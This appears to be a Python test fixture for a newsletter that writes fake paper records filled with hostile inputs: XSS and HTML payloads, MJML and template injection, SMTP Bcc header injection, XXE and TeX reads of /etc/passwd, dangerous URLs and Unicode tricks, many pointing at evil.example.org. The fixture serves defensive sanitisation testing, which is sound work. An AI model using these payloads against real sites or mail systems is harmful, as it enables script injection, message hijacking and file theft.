"""What whoever writes a paper might write into it, to become something other than text."""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path

from newsletter.clock import Clock

#: Where none of it may lead.
EVIL = "evil.example.org"
#: In any field of text. None holds TeX; what is shown has all their letters, in order.
TEXTS = (
    "<script>document.title='taken'</script>",
    "<ScRiPt src=//evil.example.org/x.js></sCrIpT >",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example.org/pixel.png' width=1>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' style='expression(alert(1))",
    '" autofocus onfocus=alert(1) x="',
    "`onload=alert(1)`",
    '<a href="javascript:alert(1)">click</a>',
    "<a href='data:text/html;base64,PHNjcmlwdD4='>data</a>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=http://evil.example.org/></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=http://evil.example.org/'>",
    "<base href=http://evil.example.org/>",
    "<link rel=stylesheet href=http://evil.example.org/x.css>",
    "<style>*{background:url(http://evil.example.org/x)}</style>",
    "<form action=http://evil.example.org/><input name=q autofocus>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><title></title><plaintext>",
    "</title></style></td></table></body></html>after the end",
    "<!-- comment --> and <!--[if mso]><p>office</p><![endif]-->",
    "<!--[if !mso]><!--> not office <!--<![endif]-->",
    "]]> <![CDATA[ <b>data</b> ]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e; &lt;b&gt; &amp;lt; &bogus;",
    "%3Cscript%3E %253Cscript +ADw-script+AD4- %0D%0ABcc: x",
    "</mj-text><mj-raw><script>alert(1)</script></mj-raw><mj-text>",
    "<mj-include path='/etc/passwd' /><mj-image src='http://evil.example.org/x' />",
    "</mj-column></mj-section><mj-section><mj-column><mj-button href='x'>button",
    "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %>",
    "{% include '/etc/passwd' %} {% raw %} {% endraw %} {%- for x in y -%}",
    "{# a comment #} }} %} #} {{ view.unsubscribe_url }} {{ self.__init__.__globals__ }}",
    "%(title)s %s %d {0} {title} {title.__class__}",
    "x\r\nBcc: bcc@evil.example.org\r\n\r\n<b>body</b>",
    "x\nBcc: bcc@evil.example.org\n.\nMAIL FROM:<x@evil.example.org>",
    "x\rContent-Type: text/html\rBcc: bcc@evil.example.org",
    "=?utf-8?q?=0D=0ABcc:=20bcc@evil.example.org?=",
    "=?utf-8?b?DQpCY2M6IGJjY0BldmlsLmV4YW1wbGUub3Jn?= =?utf-8?q?a?=\r\n =?utf-8?q?b?=",
    "=?utf-8?q? never closed =3D =\n=20",
    "mailto:x@evil.example.org?bcc=y@evil.example.org&subject=%0D%0ABcc:z",
    "javascript:alert(1) vbscript:msgbox(1) data:text/html,<script>alert(1)</script>",
    "nul\x00in between, bell\x07, escape\x1b[31m, delete\x7f, next line\x85",
    "line\u2028separator and paragraph\u2029separator, tab\tand feed\f",
    "right\u202eto left override never closed",
    "isolate\u2067never closed \u2066\u2066\u2066 and closed twice\u2069\u2069\u202c\u202c",
    "zero\u200bwidth\u200cspaces\u200d and \u2060joiners\ufeff",
    "storm o\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" + "\u0301" * 300 + " over",
    "lone \ud800 high and \udfff low surrogate, \ufffe and \uffff",
    "tags \U000e0041\U000e0042 and private \ue000 and \U0010fffd",
    "\u05d0\u05d1 <b>\u05d2\u05d3</b> \u0634\u0628\u0643\u0629 12 <i>34</i>",
    "W" * 1000,
    "long" + "-" * 1000 + "dash",
    "\u6a21\u578b" * 200,
    ".\r\n..\r\nFrom here",
    "onclick=alert(1) formaction=javascript:alert(1) srcset=x",
)
#: TeX that tries the same. What a converter makes of it may have fewer letters.
TEX = (
    "\\x3cscript\\x3e \\u003cscript\\u003e \\r\\nBcc: x",
    "\\href{javascript:alert(1)}{link}",
    "\\url{javascript:alert(1)} \\includegraphics{http://evil.example.org/x.png}",
    "\\input{/etc/passwd} \\include{secret} \\write18{id}",
    "$\\unicode{x3C}script\\unicode{x3E}alert(1)$",
    "$<script>alert(1)</script>$ \\(<img src=x onerror=alert(1)>\\)",
    "\\def\\x{\\x\\x}\\x \\newcommand{\\y}{\\y\\y}\\y",
    "\\char60script\\char62 \\symbol{60}b\\symbol{62}",
    "{" * 500 + "$" * 500 + "\\frac" * 200,
    "\\begin{document}\\verb|<b>|\\end{document} \\%\\&\\#\\_\\{",
    "$x^{2^{2^{2^{2}}}}$ \\text{<u>} \\mathrm{{{ 7*7 }}}",
)
#: In fields of web addresses. None of them is a link anybody may follow from here.
URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "//evil.example.org/x",
    "/preferences/x",
    "https:/evil.example.org",
    'https://example.org/" onclick="alert(1)',
    "https://example.org/'><script>alert(1)</script>",
    "https://example.org/{{ 7*7 }}",
    "https://example.org\r\nBcc: bcc@evil.example.org",
    "https://papers.example.org@evil.example.org/",
    "https://evil.example.org\\@example.org/",
    "https://example.org/\u202egnp.exe",
    "https://[::1",
    "mailto:x@evil.example.org?bcc=y@evil.example.org",
)
HOSTILE = TEXTS + TEX


def mark(number: int) -> str:
    """A word that stands beside every text of paper ``number`` and nowhere else."""
    return f"mark{number:03d}end"


def words(number: int, *, hostile: bool) -> str:
    """The text of paper ``number``, from 0."""
    return f"{HOSTILE[number] if hostile else 'plain words'} {mark(number)}"


def write_papers(path: Path, clock: Clock, *, hostile: bool) -> None:
    """Write one paper for each text as a source would give it, or its harmless twin: the same in all but its words.

    A twin has no addresses where the hostile ones must be left out. Earlier papers have more votes.
    """
    listed_at, counted_at = (clock.now() - timedelta(hours=hours) for hours in (2, 1))
    lines = []
    for number in range(len(HOSTILE)):
        text = words(number, hostile=hostile)
        url = URLS[number % len(URLS)] if hostile else ""
        paper = {
            "arxiv_id": f"2608.{number + 1:05d}",
            **dict.fromkeys(("title", "abstract", "summary", "organization"), text),
            **{field: [text] for field in ("authors", "categories", "keywords")},
            **dict.fromkeys(("code_url", "project_url", "discussion_url", "thumbnail_url"), url),
            "listed_at": listed_at.isoformat(),
            "signals": [{"observed_at": counted_at.isoformat(), "votes": 1000 - number}],
        }
        lines.append(json.dumps(paper) + "\n")
    path.write_text("".join(lines), encoding="utf-8")
